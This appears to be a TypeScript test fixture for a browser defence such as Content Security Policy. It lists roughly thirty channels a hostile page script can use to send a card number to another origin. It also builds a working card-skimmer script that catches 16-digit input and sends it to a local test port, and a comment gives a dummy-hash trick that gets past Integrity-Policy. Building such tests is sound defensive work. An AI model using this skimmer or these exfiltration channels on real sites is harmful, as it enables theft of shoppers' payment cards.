/** Ways out: how a hostile script in the page can try to carry a card number to another origin. */

/** What a way is given. Each way has its own port: everything that arrives there came by this way. */
export interface Target {
  readonly card: string
  readonly port: string
  /** An http address with the number in its query. */
  readonly address: string
  /** The script itself: the only file of the page's own origin that the hostile code is in. */
  readonly entry: string
  /** Puts an element with these fields into the page. */
  add<Name extends keyof HTMLElementTagNameMap>(
    name: Name,
    fields: Partial<HTMLElementTagNameMap[Name]>,
    parent?: Element,
  ): HTMLElementTagNameMap[Name]
}

/** Sent to the page as source text, so it can use nothing outside its braces. */
export type WayOut = (target: Target) => unknown

export const WAYS_OUT: Readonly<Record<string, WayOut>> = {
  fetch: ({ address }) => fetch(address, { mode: 'no-cors' }),
  XMLHttpRequest: ({ address }) => {
    const call = new XMLHttpRequest()
    call.open('POST', address)
    call.send()
  },
  'navigator.sendBeacon': ({ address, card }) => navigator.sendBeacon(address, card),
  WebSocket: ({ address }) => new WebSocket(address.replace('http', 'ws')),
  EventSource: ({ address }) => new EventSource(address),
  WebTransport: ({ address }) => new WebTransport(address.replace('http', 'https')).ready,
  'WebRTC, its STUN server': async ({ port }) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] })
    connection.createDataChannel('card')
    await connection.setLocalDescription(await connection.createOffer())
  },
  image: ({ address }) => {
    new Image().src = address
  },
  'script element': ({ address, add }) => add('script', { src: address }, document.head),
  'dynamic import': ({ address }) => import(address),
  'stylesheet link': ({ address, add }) => add('link', { rel: 'stylesheet', href: address }, document.head),
  'url() in a style rule': ({ address }) => {
    const sheet = new CSSStyleSheet()
    sheet.replaceSync(`body { background: url(${address}) }`)
    document.adoptedStyleSheets = [sheet]
  },
  'font face': ({ address }) => new FontFace('card', `url(${address})`).load(),
  'video element': ({ address, add }) => add('video', { src: address }),
  'object element': ({ address, add }) => add('object', { data: address }),
  frame: ({ address, add }) => add('iframe', { src: address }),
  'frame with srcdoc': ({ address, add }) => add('iframe', { srcdoc: `<img src="${address}">` }),
  'frame of a blob': ({ address, add }) =>
    add('iframe', { src: URL.createObjectURL(new Blob([`<img src="${address}">`], { type: 'text/html' })) }),
  'form, POST': ({ address, add }) => add('form', { method: 'post', action: address }).submit(),
  'form, GET': ({ address, card, add }) => {
    const form = add('form', { action: address })
    add('input', { name: 'card', value: card }, form)
    form.submit()
  },
  'ping of a link': ({ address, add }) => add('a', { href: '#', ping: address }).click(),
  'link prefetch': ({ address, add }) => add('link', { rel: 'prefetch', href: address }, document.head),
  // Any hash will do: with one, Integrity-Policy lets the request out.
  'link preload of a script': ({ address, add }) => {
    const integrity = `sha384-${'A'.repeat(64)}`
    add('link', { rel: 'preload', as: 'script', crossOrigin: '', integrity, href: address }, document.head)
  },
  'link modulepreload': ({ address, add }) => {
    const integrity = `sha384-${'A'.repeat(64)}`
    add('link', { rel: 'modulepreload', as: 'script', crossOrigin: '', integrity, href: address }, document.head)
  },
  'audio worklet': ({ address }) => new AudioContext().audioWorklet.addModule(address),
  'worker with importScripts': ({ address }) =>
    new Worker(URL.createObjectURL(new Blob([`importScripts(${JSON.stringify(address)})`]))),
  'service worker': ({ address, entry }) =>
    navigator.serviceWorker.register(`${entry}?to=${encodeURIComponent(address)}`, { type: 'module' }),
  'meta refresh': ({ address, add }) =>
    add('meta', { httpEquiv: 'refresh', content: `0;url=${address}` }, document.head),
  'top navigation': ({ address }) => {
    window.location.href = address
  },
  'window.open': ({ address }) => window.open(address),
}

/**
 * The hostile code, to stand before the entry script's own. When sixteen digits are in the card field it tries the way that
 * the address names. In a worker of its own text it calls the address it was given.
 */
export const hostileScript = (ways: Readonly<Record<string, WayOut>>): string => `{
  const ways = { ${Object.entries(ways)
    .map(([name, way]) => `${JSON.stringify(name)}: ${way.toString()}`)
    .join(',\n')} }
  if (typeof document === 'undefined') fetch(new URL(location.href).searchParams.get('to'), { mode: 'no-cors' })
  else {
    const query = new URLSearchParams(location.search)
    let isTried = false
    document.addEventListener('input', async ({ target }) => {
      const card = String(target.value).replaceAll(/\\D/g, '')
      if (isTried || card.length !== 16) return
      isTried = true
      const port = query.get('port')
      const address = 'http://127.0.0.1:' + port + '/?card=' + card
      const add = (name, fields, parent = document.body) => {
        const element = Object.assign(document.createElement(name), fields)
        parent.append(element)
        return element
      }
      try {
        await ways[query.get('way')]({ card, port, address, entry: import.meta.url, add })
      } catch {}
      document.documentElement.dataset.tried = ''
    }, true)
    document.documentElement.dataset.hostile = ''
  }
}
`
